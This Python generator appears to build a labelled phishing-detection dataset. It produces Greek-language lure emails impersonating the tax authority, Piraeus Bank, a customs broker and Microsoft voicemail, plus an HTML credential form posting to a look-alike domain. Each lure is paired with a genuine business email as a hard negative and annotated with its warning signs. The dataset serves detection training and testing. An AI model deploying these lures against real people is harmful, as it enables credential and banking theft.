"""Greek messages: attacks 32-36, business 32-36."""
from kit import *

LANG = "el"
EG_GR_AFM = ids.gr_afm("99681234")
KYK_AFM = ids.gr_afm("80145522")
HAC_AFM = ids.gr_afm("80012345")
KN_AFM = ids.gr_afm("09471236")
KYK_IBAN = ids.iban_gr("011", "0145", "0000014500123456")   # Εθνική Τράπεζα (Kyklades Air)
KN_IBAN = ids.iban_gr("017", "0123", "0000012345678901")    # Πειραιώς (Nikolaidis)
EG_SIG_GR = ("Example Group Aviation Services GmbH - Υποκατάστημα Ελλάδος\nΔιεθνής Αερολιμένας Αθηνών «Ελ. Βενιζέλος», Κτίριο 14Β, 190 19 Σπάτα\n"
             "ΑΦΜ %s - ΔΟΥ ΚΕΦΟΔΕ Αττικής" % EG_GR_AFM)
KN_SIG = ("Κώστας Νικολαΐδης\nΔιεθνείς Μεταφορές - Εκτελωνισμοί\nΑκτή Μιαούλη 71, 185 38 Πειραιάς\nτηλ. 210 555 1187 - κιν. 694 555 2210")
THREAD_GR = "<%s@EX-HAM-MBX01.corp.example.com>" % "8f41c2a7d9e04b6b9a1d3c5e7f902b44"
B34_ID = outlook_msgid(rng_for("b34-msgid"), U(2026, 11, 19, 12, 4, 36), "otenet.gr")


# ====================================================================== ATTACKS
def a32():
    m = Message("attack", 32, LANG, "aade-mydata-apokliseis-phishing")
    t = U(2026, 11, 23, 9, 41, 27)
    snd, rcpt = "info@villa-eleni-naxos.gr", "eleni.georgiou@example.com"
    r = m.rng
    host = "server%d.greekhosting.eu" % r.randrange(10, 60)
    hop = exim_hop(r, "80.94.95.%d" % r.randrange(2, 250), "[127.0.0.1]", host, snd, sec(t, 1), zone="GR", rcpt=rcpt)
    e = direct(m, t, snd, rcpt, host, host, "185.138.%d.%d" % (r.randrange(40, 43), r.randrange(2, 250)), hops=[hop], tls=TLS12, zone="GR",
               mailer="PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)", msgid="<%s@villa-eleni-naxos.gr>" % alnum(r, 43))
    e.set("X-AntiAbuse", [v for k, v in cpanel_antiabuse(host, "example.com", snd)[:5]])
    url = "https://aade-mydata.gr/taxisnet/login?afm=%s&ref=MD-2026-Q3-1744" % EG_GR_AFM
    text = """Αξιότιμε/η φορολογούμενε,

Από τη διασταύρωση των δεδομένων της πλατφόρμας myDATA με τα στοιχεία των αντισυμβαλλομένων σας, εντοπίστηκαν αποκλίσεις σε 17 παραστατικά εσόδων του Γ' τριμήνου 2026 για τον ΑΦΜ %s (EXAMPLE GROUP AVIATION SERVICES GMBH - ΥΠΟΚΑΤΑΣΤΗΜΑ ΕΛΛΑΔΟΣ).

Η μη διόρθωση των αποκλίσεων έως τις 04/12/2026 επισύρει τα πρόστιμα του άρθρου 54 του Κώδικα Φορολογικής Διαδικασίας.

Για να δείτε αναλυτικά τα παραστατικά και να υποβάλετε τις διορθώσεις, συνδεθείτε με τους κωδικούς Taxisnet:

[[!Σύνδεση στο myDATA|%s]]

Με εκτίμηση,
Ανεξάρτητη Αρχή Δημοσίων Εσόδων
Διεύθυνση Ηλεκτρονικής Διακυβέρνησης
""" % (EG_GR_AFM, url)
    html = html_esp(text, "iso-8859-7", brand="ΑΑΔΕ", color="#003476", lang="el", logo_text="ΑΑΔΕ · myDATA", font="Arial, sans-serif")
    root = alt(e, tp(plain(text, "colon"), "iso-8859-7", "base64"), hp(html, "iso-8859-7", "base64"))
    finish(m, e, addr("ΑΑΔΕ - myDATA", snd, "iso-8859-7", "B"), rcpt,
           "myDATA: Εντοπίστηκαν αποκλίσεις στα παραστατικά Γ' τριμήνου 2026", root, "iso-8859-7", "B")
    m.what = "'AADE myDATA' claims mismatches in 17 Q3 invoices of the Greek branch and asks to log in with Taxisnet credentials before a penalty deadline."
    m.why = "Sent from a compromised holiday-villa mailbox on shared hosting; aade-mydata.gr is not aade.gr; Taxisnet credential phishing with a fine threat."
    return m


def a33():
    m = Message("attack", 33, LANG, "piraeus-winbank-kyc-phishing")
    t = U(2026, 11, 11, 11, 5, 9)
    rcpt = "eleni.georgiou@example.com"
    r = m.rng
    n = r.randrange(10, 200)
    e = generic_esp(m, t, "bounces+%s@piraeusbank-winbank.com" % alnum(r, 16), rcpt, "s%d.elasticemail.com" % n, "s%d.elasticemail.com" % n,
                    "15.204.%d.%d" % (r.randrange(160, 170), n), msgid="<%s@piraeusbank-winbank.com>" % alnum(r, 22),
                    xmailer="ElasticEmail", zone="UTC",
                    relay_line="by elasticemail.com (API) id %s for <%%(rcpt)s>; %%(date)s" % alnum(r, 16))
    e.set("X-Msg-EID", alnum(r, 22))
    url = "https://piraeusbank-winbank.com/business/kyc?cid=%s" % alnum(r, 12, "0123456789")
    text = """Αγαπητέ πελάτη,

Σύμφωνα με την Οδηγία (ΕΕ) 2015/849 για την πρόληψη της νομιμοποίησης εσόδων από παράνομες δραστηριότητες και τις αποφάσεις της Τράπεζας της Ελλάδος, οι τράπεζες υποχρεούνται να επικαιροποιούν περιοδικά τα στοιχεία των επιχειρηματικών πελατών τους.

Η επικαιροποίηση των στοιχείων της επιχείρησής σας εκκρεμεί. Εάν δεν ολοκληρωθεί έως τις 30/11/2026, η πρόσβαση στο winbank business και η εκτέλεση εντολών πληρωμής θα περιοριστούν.

[[!Επικαιροποίηση στοιχείων|%s]]

Η διαδικασία διαρκεί περίπου 3 λεπτά και απαιτεί τους κωδικούς σύνδεσης winbank και τον κωδικό μίας χρήσης (OTP) που θα λάβετε με SMS.

Με εκτίμηση,
Τράπεζα Πειραιώς
Διεύθυνση Ψηφιακής Τραπεζικής
""" % url
    html = html_esp(text, "utf-8", brand="Πειραιώς", color="#f2b200", lang="el", logo_text="Τράπεζα Πειραιώς · winbank", font="Arial, sans-serif")
    root = alt(e, tp(plain(text, "colon"), "utf-8", "quoted-printable"), hp(html, "utf-8", "quoted-printable"))
    finish(m, e, addr("Τράπεζα Πειραιώς", "ebanking@piraeusbank-winbank.com", "utf-8", "B"), rcpt,
           "winbank business: Απαιτείται επικαιροποίηση στοιχείων έως 30/11/2026", root, "utf-8", "B")
    m.what = "'Piraeus Bank' KYC update request for business e-banking with a deadline; login plus SMS OTP."
    m.why = "Look-alike domain piraeusbank-winbank.com via Elastic Email; harvests winbank credentials and one-time codes under an AML-compliance pretext."
    return m


def a34():
    m = Message("attack", 34, LANG, "thread-hijack-diamesolavitis-dropbox")
    t = U(2026, 11, 30, 16, 22, 48)
    snd, rcpt = "knikolaidis@otenet.gr", "nikolaos.papadopoulos@example.com"
    r = m.rng
    e = otenet(m, t, snd, rcpt, client=("[127.0.0.1]", "unknown", "146.70.199.%d" % r.randrange(2, 250)))
    link = "https://www.dropbox.com/scl/fi/%s/Eggrafa_ektelonismou_176-55193021.pdf?rlkey=%s&dl=0" % (
        alnum(r, 21, "abcdefghijklmnopqrstuvwxyz0123456789"), alnum(r, 25, "abcdefghijklmnopqrstuvwxyz0123456789"))
    text = """Καλησπέρα σας,

σας αποστέλλω τα ενημερωμένα έγγραφα εκτελωνισμού και το διορθωμένο τιμολόγιο για την αποστολή AWB 176-55193021. Λόγω μεγέθους τα ανέβασα στο Dropbox:

[[Έγγραφα_εκτελωνισμού_176-55193021.pdf|%s]]

Για λόγους ασφαλείας θα σας ζητηθεί επιβεβαίωση με το email και τον κωδικό της εταιρείας σας πριν την προβολή.

Παρακαλώ επιβεβαιώστε μου σήμερα, για να προχωρήσει η παράδοση.

Με εκτίμηση,
%s

---

Από: Κώστας Νικολαΐδης <knikolaidis@otenet.gr>
Στάλθηκε: Πέμπτη, 19 Νοεμβρίου 2026 12:04 μ.μ.
Προς: Νικόλαος Παπαδόπουλος <nikolaos.papadopoulos@example.com>
Θέμα: ΑΠ: Εκτελωνισμός αποστολής AWB 176-55193021 - ανταλλακτικά προσγείωσης

Κύριε Παπαδόπουλε, καλημέρα.

Η αποστολή εκτελωνίστηκε σήμερα το πρωί. Σας επισυνάπτω το τιμολόγιό μου και τη διασάφηση.
""" % (link, KN_SIG)
    root = alt(e, tp(plain(text), "windows-1253", "quoted-printable"), hp(html_outlook(text, "windows-1253", lang="EL"), "windows-1253"))
    finish(m, e, addr("Κώστας Νικολαΐδης", snd, "windows-1253", "Q"), addr("Νικόλαος Παπαδόπουλος", rcpt, "windows-1253", "Q"),
           "ΑΠ: Εκτελωνισμός αποστολής AWB 176-55193021 - ανταλλακτικά προσγείωσης", root, "windows-1253", "Q",
           irt=B34_ID, refs="%s\n %s" % (THREAD_GR, B34_ID))
    m.what = "Known customs broker 'replies' in an existing clearance thread with 'updated documents' on Dropbox that require the company e-mail password to view."
    m.why = "Thread hijack from the broker's genuinely compromised otenet.gr mailbox (submitted from a foreign VPN address); the clearance was already complete; file-share lure that asks for corporate credentials."
    return m


def a35():
    m = Message("attack", 35, LANG, "voicemail-svg-attachment")
    t = U(2026, 12, 3, 12, 11, 33)
    snd, rcpt = "noreply@kapodistrias-marine.gr", "nikolaos.papadopoulos@example.com"
    e = exo(m, t, snd, rcpt, lang="el-GR", zone="UTC", pod="DU2")
    r = m.rng
    link = "https://voicemail-cloud-%s.web.app/play?u=%s" % (alnum(r, 5, "abcdefghijklmnopqrstuvwxyz0123456789"),
                                                            base64.urlsafe_b64encode(rcpt.encode()).decode().rstrip("="))
    svg = svg_doc(["Φωνητικό μήνυμα (0:47)", "Από: +30 210 555 0143", "Προς: Νικόλαος Παπαδόπουλος", "Παραλήφθηκε: 03/12/2026 13:10"],
                  link, brand="#5b5fc7", button="▶ Αναπαραγωγή")
    text = """Έχετε ένα νέο φωνητικό μήνυμα.

Από: +30 210 555 0143
Διάρκεια: 0:47
Ημερομηνία: 03/12/2026 13:10

Το μήνυμα επισυνάπτεται στο παρόν email. Ανοίξτε το συνημμένο για αναπαραγωγή.

Microsoft Teams - Τηλεφωνικό σύστημα
"""
    att_svg = Part("image/svg+xml", svg, cte="base64", filename="Φωνητικό_μήνυμα_0047.svg", disposition="attachment",
                   fn_charset="utf-8", fn_enc="B")
    root = mixed(e, alt(e, tp(text, "iso-8859-7", "quoted-printable"), hp(html_owa(text, "iso-8859-7"), "iso-8859-7", "quoted-printable")), att_svg)
    finish(m, e, addr("Τηλεφωνικό Κέντρο", snd, "iso-8859-7", "B"), addr("Νικόλαος Παπαδόπουλος", rcpt, "iso-8859-7", "B"),
           "Νέο φωνητικό μήνυμα από +30 210 555 0143 (0:47)", root, "iso-8859-7", "B")
    m.what = "'Voicemail' notification with an SVG attachment that renders a play button linking to a Firebase (web.app) page carrying the victim's address."
    m.why = "SVG attachments are a current HTML-smuggling/redirect vector (inert here: no script, only a link); sent from an unrelated company's compromised M365 mailbox; the company's real voicemail arrives as .wav from its own PBX via the internal relay."
    return m


def a36():
    m = Message("attack", 36, LANG, "pelatis-lookalike-remittance-html-login")
    t = U(2026, 11, 5, 10, 47, 55)
    snd, rcpt = "accounts@kykladesair.com", "eleni.georgiou@example.com"
    r = m.rng
    ip = "5.252.%d.%d" % (r.randrange(176, 180), r.randrange(2, 250))
    hop = postfix_hop(r, "localhost", "localhost", "127.0.0.1", "mail.kykladesair.com", sec(t, 1), zone="GR", proto="ESMTPSA", auth=snd, tls=None)
    e = direct(m, t, snd, rcpt, "mail.kykladesair.com", "mail.kykladesair.com", ip, hops=[hop], tls=TLS13, zone="GR",
               ua="Roundcube Webmail/1.6.9", msgid="<%s@kykladesair.com>" % hexs(r, 32), bstyle="roundcube")
    page = """<!DOCTYPE html>
<html lang="el">
<head>
<meta charset="utf-8">
<title>Remittance Advice KYK-7713 - Microsoft OneDrive</title>
<style>
body{font-family:Segoe UI,Arial,sans-serif;background:#f3f2f1;margin:0}
.card{width:380px;margin:70px auto;background:#fff;padding:36px 40px;box-shadow:0 2px 6px rgba(0,0,0,.2)}
input{width:100%%;padding:8px 0;margin:8px 0 16px 0;border:0;border-bottom:1px solid #666;font-size:15px}
button{background:#0067b8;color:#fff;border:0;padding:9px 34px;font-size:15px;float:right}
</style>
</head>
<body>
<div class="card">
<p><b>Microsoft</b></p>
<h3>Σύνδεση για προβολή εγγράφου</h3>
<p style="font-size:13px">Το αρχείο <b>Remittance_KYK-7713.pdf</b> (Kyklades Air A.E.) είναι κοινοποιημένο με προστασία. Επιβεβαιώστε τον λογαριασμό σας για να συνεχίσετε.</p>
<form method="post" action="https://kykladesair-docs.com/owa/r.php">
<input type="email" name="login" value="%s">
<input type="password" name="passwd" placeholder="Κωδικός πρόσβασης">
<button type="submit">Είσοδος</button>
</form>
</div>
</body>
</html>
""" % rcpt
    text = """Καλημέρα σας,

σας ενημερώνουμε ότι σήμερα εκτελέστηκε η πληρωμή των τιμολογίων Οκτωβρίου (ΤΔΑ 2026-0388, 2026-0391, 2026-0402) συνολικού ποσού 48.212,40 €.

Στο συνημμένο θα βρείτε το αποδεικτικό πληρωμής (remittance advice KYK-7713). Για λόγους ασφαλείας το έγγραφο ανοίγει μετά από επιβεβαίωση του λογαριασμού email σας.

Με εκτίμηση,
Λογιστήριο
Kyklades Air A.E.
"""
    root = mixed(e, tp(text, "utf-8", "base64", label="UTF-8", flowed=True),
                 Part("text/html", page.encode("utf-8"), charset="UTF-8", cte="base64", filename="Remittance_KYK-7713.html", disposition="attachment"))
    finish(m, e, addr("Kyklades Air - Λογιστήριο", snd, "utf-8", "Q", "UTF-8"), addr("Ελένη Γεωργίου", rcpt, "utf-8", "Q", "UTF-8"),
           "Αποδεικτικό πληρωμής - τιμολόγια Οκτωβρίου (KYK-7713)", root, "utf-8", "Q", "UTF-8")
    m.what = "'Customer's accounts department' announces payment of October invoices; the attached 'remittance advice' is an HTML page imitating a Microsoft sign-in with the victim's address prefilled."
    m.why = "kykladesair.com is a look-alike of the customer's kykladesair.gr (Roundcube on a VPS); HTML attachment with a credential form posting to kykladesair-docs.com (inert: no script)."
    return m


# ====================================================================== BUSINESS
def b32():
    m = Message("business", 32, LANG, "logistis-prothesmies-mydata-fpa")
    t = U(2026, 11, 20, 13, 34, 18)
    snd, rcpt = "g.pappas@pappas-logistiki.gr", "eleni.georgiou@example.com"
    r = m.rng
    e = outlook_smtp(m, t, snd, rcpt, "mail.pappas-logistiki.gr", "mail.pappas-logistiki.gr", "185.4.%d.%d" % (r.randrange(132, 135), r.randrange(2, 250)),
                     "LOGISTIRIO-PC", "ppp-94-%d-%d-%d.home.otenet.gr" % (r.randrange(64, 80), r.randrange(1, 250), r.randrange(1, 250)),
                     "94.%d.%d.%d" % (r.randrange(64, 80), r.randrange(1, 250), r.randrange(1, 250)), zone="GR", lang="el")
    text = """Καλησπέρα κα Γεωργίου,

σας υπενθυμίζω τις προθεσμίες του Δεκεμβρίου για το υποκατάστημα:

- Δήλωση ΦΠΑ Νοεμβρίου: έως 31/12/2026.
- Διαβίβαση στο myDATA των παραστατικών εξόδων Νοεμβρίου που δεν έχουν χαρακτηριστεί: έως 20/12/2026.
- Συμφωνία αποκλίσεων myDATA Γ' τριμήνου: από τον έλεγχο που κάναμε βρήκαμε 3 τιμολόγια της Hellas Aero Coatings που δεν έχουν ακόμη διαβιβαστεί από τον προμηθευτή. Τους στείλαμε email να το διορθώσουν, δεν χρειάζεται κάτι από εσάς.

Για να κλείσουμε τον μήνα θα χρειαστώ έως τις 5/12:
1. το αντίγραφο κίνησης λογαριασμού Νοεμβρίου από την Εθνική,
2. τα παραστατικά ταξιδιών των τεχνικών (Ρόδος, Κέρκυρα),
3. την κατάσταση μισθοδοσίας Νοεμβρίου από το Αμβούργο.

Μπορείτε να τα ανεβάσετε όπως πάντα στον κοινό φάκελο του γραφείου ή να μου τα στείλετε με email.

Καλό Σαββατοκύριακο,
Γιώργος Παππάς
Λογιστής - Φοροτεχνικός Α' Τάξης
Γραφείο Λογιστικής Παππάς
Λεωφ. Μεσογείων 248, 155 62 Χολαργός - τηλ. 210 555 6620
"""
    root = alt(e, tp(text, "iso-8859-7", "quoted-printable"), hp(html_outlook(text, "iso-8859-7", lang="EL"), "iso-8859-7"))
    finish(m, e, addr("Γιώργος Παππάς", snd, "iso-8859-7", "Q"), addr("Ελένη Γεωργίου", rcpt, "iso-8859-7", "Q"),
           "Προθεσμίες Δεκεμβρίου - ΦΠΑ, myDATA και έγγραφα για κλείσιμο μήνα", root, "iso-8859-7", "Q")
    m.what = "Branch's outside bookkeeper lists December VAT and myDATA deadlines and the documents he needs."
    m.why = "Known accountant on his own domain from his office line; mentions myDATA discrepancies but handles them himself; no link, no login."
    m.hardneg = [(32, "Same myDATA-discrepancy topic for the same accountant, from the real bookkeeper without any login request.")]
    return m


def b33():
    m = Message("business", 33, LANG, "pelatis-apodeiktiko-pliromis-pdf")
    t = U(2026, 11, 6, 14, 2, 31)
    snd, rcpt = "accounts@kykladesair.gr", "eleni.georgiou@example.com"
    e = exo(m, t, snd, rcpt, lang="el-GR", zone="UTC", pod="DU2", has_attach=True)
    text = """Καλησπέρα σας,

σας ενημερώνουμε ότι σήμερα εκτελέστηκε η πληρωμή των τιμολογίων σας:

ΤΔΑ 2026-0388 - 18.604,00 €
ΤΔΑ 2026-0391 - 12.920,40 €
ΤΔΑ 2026-0402 - 16.688,00 €
Σύνολο: 48.212,40 €

Η μεταφορά έγινε από τον λογαριασμό μας στην Εθνική Τράπεζα προς τον λογαριασμό σας που αναγράφεται στα τιμολόγια. Επισυνάπτουμε το αποδεικτικό πληρωμής σε PDF.

Με εκτίμηση,
Αθηνά Μαυρίδου
Λογιστήριο
Kyklades Air A.E.
Λεωφ. Βουλιαγμένης 562, 174 56 Άλιμος - ΑΦΜ %s
""" % KYK_AFM
    adv = pdf([("h1", "KYKLADES AIR S.A. - REMITTANCE ADVICE"), ("p", "Date: 06/11/2026   Ref: KYK-7713"), ("rule", ""),
               ("p", "Payee: Example Group Aviation Services GmbH - Greek Branch, VAT %s" % EG_GR_AFM),
               ("mono", "Invoice         Amount EUR\nTDA 2026-0388    18,604.00\nTDA 2026-0391    12,920.40\nTDA 2026-0402    16,688.00\nTotal            48,212.40"),
               ("p", "Paid from: National Bank of Greece, %s" % ids.iban_fmt(KYK_IBAN))],
              t, zone="GR", title="Remittance KYK-7713", author="Kyklades Air", creator="SoftOne ERP", producer="SoftOne PDF")
    root = mixed(e, alt(e, tp(text, "windows-1253", "quoted-printable"), hp(html_owa(text, "windows-1253"), "windows-1253", "quoted-printable")),
                 att("application/pdf", adv, "Remittance_KYK-7713.pdf"))
    finish(m, e, addr("Kyklades Air - Λογιστήριο", snd, "windows-1253", "Q"), addr("Ελένη Γεωργίου", rcpt, "windows-1253", "Q"),
           "Αποδεικτικό πληρωμής - τιμολόγια Οκτωβρίου (KYK-7713)", root, "windows-1253", "Q", cc_name="CC")
    m.what = "Customer's accounts department confirms payment of three invoices and attaches the remittance advice as PDF."
    m.why = "Real kykladesair.gr Microsoft 365 tenant; PDF attachment, no sign-in; amounts and invoice numbers match."
    m.hardneg = [(36, "Same subject line, same invoices and amount; the genuine one comes from kykladesair.gr with a PDF instead of an HTML login page.")]
    return m


def b34():
    m = Message("business", 34, LANG, "diamesolavitis-timologio-ektelonismou")
    t = U(2026, 11, 19, 12, 4, 40)
    snd, rcpt = "knikolaidis@otenet.gr", "nikolaos.papadopoulos@example.com"
    e = otenet(m, t, snd, rcpt)
    e.msgid = B34_ID
    text = """Κύριε Παπαδόπουλε, καλημέρα.

Η αποστολή εκτελωνίστηκε σήμερα το πρωί. Σας επισυνάπτω το τιμολόγιό μου και τη διασάφηση.

Δασμός 0 € (ανταλλακτικά αεροσκαφών, απαλλαγή), ΦΠΑ εισαγωγής 4.212,80 € - πληρώθηκε από εμένα και συμπεριλαμβάνεται στο τιμολόγιο μαζί με την αμοιβή εκτελωνισμού (180,00 € + ΦΠΑ).

Η παράδοση στο υπόστεγο θα γίνει αύριο το πρωί με το φορτηγό μας.

Με εκτίμηση,
%s

---

Από: Νικόλαος Παπαδόπουλος <nikolaos.papadopoulos@example.com>
Στάλθηκε: Τρίτη, 17 Νοεμβρίου 2026 4:12 μ.μ.
Προς: Κώστας Νικολαΐδης <knikolaidis@otenet.gr>
Θέμα: Εκτελωνισμός αποστολής AWB 176-55193021 - ανταλλακτικά προσγείωσης

Κύριε Νικολαΐδη, καλησπέρα.

Σας στέλνω τα έγγραφα για την αποστολή από Ντουμπάι (AWB 176-55193021, 3 κιβώτια, ανταλλακτικά συστήματος προσγείωσης ATR). Παρακαλώ για εκτελωνισμό και παράδοση στο υπόστεγο.
""" % KN_SIG
    inv = pdf([("h1", "INVOICE 2026/1187 - Konstantinos Nikolaidis"), ("p", "International Transport - Customs Brokerage, Piraeus - VAT %s" % KN_AFM), ("rule", ""),
               ("p", "Customer: Example Group Aviation Services GmbH - Greek Branch, VAT %s" % EG_GR_AFM),
               ("mono", "Description                               Amount EUR\nImport VAT paid on behalf (AWB 176-55193021)   4,212.80\n"
                        "Customs clearance fee                          180.00\nVAT 24% on fee                                  43.20\nTotal                                        4,436.00"),
               ("p", "Bank: Piraeus Bank %s" % ids.iban_fmt(KN_IBAN))],
              t, zone="GR", title="Invoice 2026/1187", author="K. Nikolaidis", creator="Microsoft Excel", producer="Microsoft: Print To PDF")
    root = mixed(e, alt(e, tp(text, "windows-1253", "quoted-printable"), hp(html_outlook(text, "windows-1253", lang="EL"), "windows-1253")),
                 att("application/pdf", inv, "Timologio_2026-1187.pdf"), preamble="This is a multipart message in MIME format.")
    finish(m, e, addr("Κώστας Νικολαΐδης", snd, "windows-1253", "Q"), addr("Νικόλαος Παπαδόπουλος", rcpt, "windows-1253", "Q"),
           "ΑΠ: Εκτελωνισμός αποστολής AWB 176-55193021 - ανταλλακτικά προσγείωσης", root, "windows-1253", "Q",
           irt=THREAD_GR, refs=THREAD_GR)
    m.what = "Customs broker confirms clearance in the running thread and attaches his invoice (import VAT advanced + fee) as PDF."
    m.why = "Known broker, his usual otenet.gr mailbox from his home OTE line; invoice attached as PDF with his long-standing Piraeus account; the thread later abused in attack 34."
    m.hardneg = [(34, "Same thread, sender address and topic; genuine message attaches the PDF, the hijack links to Dropbox and asks for a password.")]
    return m


def b35():
    m = Message("business", 35, LANG, "3cx-foniko-minyma-wav-internal")
    t = U(2026, 12, 4, 9, 51, 2)
    snd, rcpt = "pbx-ath@example.com", "nikolaos.papadopoulos@example.com"
    e = internal(m, t, snd, rcpt, client_ip="10.60.0.15", lang="el-GR", has_attach=True, zone="GR")
    for k in ("Thread-Index", "Accept-Language", "Content-Language", "X-MS-Has-Attach", "X-MS-TNEF-Correlator", "x-originating-ip"):
        e.fields.pop(k, None)          # submitted by the PBX over SMTP, not by Outlook
    e.msgid = "<%s@pbx-ath.corp.example.com>" % uuid4s(m.rng)
    e.set("X-Mailer", "3CX Phone System")
    e.received[-1] = ("from pbx-ath.corp.example.com (10.60.0.15) by EX-HAM-MBX02.corp.example.com (10.20.1.22)\n\twith Microsoft SMTP Server (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384)\n\tid 15.2.2562.17 via Frontend Transport; %s" % rfcdate(sec(t, 3), "DE"))
    text = """Γεια σας Νικόλαος Παπαδόπουλος,

Έχετε ένα νέο φωνητικό μήνυμα στο εσωτερικό 6104.

Από: Kyklades Air (2105550177)
Διάρκεια: 00:00:21
Ημερομηνία: 04/12/2026 10:50

Το μήνυμα επισυνάπτεται ως αρχείο WAV. Μπορείτε επίσης να το ακούσετε καλώντας *999 από το εσωτερικό σας.

3CX Phone System - Example Group Athens
"""
    root = mixed(e, tp(text, "utf-8", "base64"), att("audio/wav", wav_silence(1), "vmail_2105550177_20261204-1050.wav"))
    finish(m, e, addr("3CX Phone System", snd), addr("Papadopoulos, Nikolaos", rcpt),
           "Νέο φωνητικό μήνυμα από Kyklades Air (2105550177)", root, "utf-8", "B", cc_name="CC")
    m.what = "The office's own 3CX PBX mails a new voicemail as a WAV file through Exchange and the internal relay."
    m.why = "Internal sender and route, audio attachment (the real format), refers to the real extension and voicemail code; no link, no login."
    m.hardneg = [(35, "Voicemail notification to the same manager; genuine one is internal with a .wav, the attack is external with an SVG.")]
    return m


def b36():
    m = Message("business", 36, LANG, "promitheftis-prosfora-vafis-pdf")
    t = U(2026, 10, 13, 15, 18, 26)
    snd, rcpt = "m.konstantinou@hellasaerocoat.gr", "nikolaos.papadopoulos@example.com"
    r = m.rng
    e = outlook_smtp(m, t, snd, rcpt, "mail.hellasaerocoat.gr", "mail.hellasaerocoat.gr", "185.4.%d.%d" % (r.randrange(132, 135), r.randrange(2, 250)),
                     "HAC-SALES01", "athe-%s.ath.forthnet.gr" % hexs(r, 6), "2.86.%d.%d" % (r.randrange(1, 250), r.randrange(1, 250)), zone="GR", lang="el")
    text = """Καλησπέρα κ. Παπαδόπουλε,

σε συνέχεια της επίσκεψής σας στο εργοστάσιο, σας στέλνω την προσφορά μας για την αντιδιαβρωτική προστασία και τη βαφή των θυρών φορτίου και των καλυμμάτων κινητήρα του ATR 72 (SX-KYB).

Η προσφορά περιλαμβάνει αφαίρεση παλαιού χρώματος, επιθεώρηση διάβρωσης, αστάρι χρωμικού-ελεύθερο και τελική βαφή σύμφωνα με το SRM της ATR, με πιστοποιητικό συμμόρφωσης για κάθε εξάρτημα.

Χρόνος εκτέλεσης: 12 εργάσιμες ημέρες από την παραλαβή. Πληρωμή: 45 ημέρες από την έκδοση του τιμολογίου.

Είμαι στη διάθεσή σας για οποιαδήποτε διευκρίνιση.

Με εκτίμηση,
Μαρία Κωνσταντίνου
Τμήμα Πωλήσεων
Hellas Aero Coatings Μ.Ε.Π.Ε.
Βιομηχανική Περιοχή Ασπροπύργου, 193 00 - ΑΦΜ %s
""" % HAC_AFM
    of = pdf([("h1", "HELLAS AERO COATINGS - QUOTATION Q-26-214"), ("p", "Customer: Example Group Aviation Services - Greek Branch"), ("rule", ""),
              ("mono", "Item                                         EUR\nCargo door (fwd) strip, inspect, prime, paint   3,850.00\n"
                       "Cargo door (aft) strip, inspect, prime, paint   3,850.00\nEngine cowlings x4, prime, paint               6,120.00\n"
                       "Total (excl. VAT)                              13,820.00"),
              ("p", "Lead time 12 working days. Payment 45 days from invoice. Chromate-free primer per ATR SRM.")],
             t, zone="GR", title="Q-26-214", author="M. Konstantinou", creator="Microsoft Word", producer="Microsoft® Word 2019")
    root = mixed(e, alt(e, tp(text, "iso-8859-7", "quoted-printable"), hp(html_outlook(text, "iso-8859-7", lang="EL"), "iso-8859-7")),
                 att("application/pdf", of, "Prosfora_Q-26-214.pdf"), preamble="This is a multipart message in MIME format.")
    finish(m, e, addr("Μαρία Κωνσταντίνου", snd, "iso-8859-7", "Q"), addr("Νικόλαος Παπαδόπουλος", rcpt, "iso-8859-7", "Q"),
           "Προσφορά Q-26-214 - βαφή θυρών φορτίου και καλυμμάτων κινητήρα ATR 72", root, "iso-8859-7", "Q")
    m.what = "Local paint-shop supplier sends a quotation after a plant visit."
    m.why = "Supplier's own domain from a Greek DSL line, concrete technical scope, normal payment terms, PDF quote."
    return m


ATTACKS = [a32, a33, a34, a35, a36]
BUSINESS = [b32, b33, b34, b35, b36]
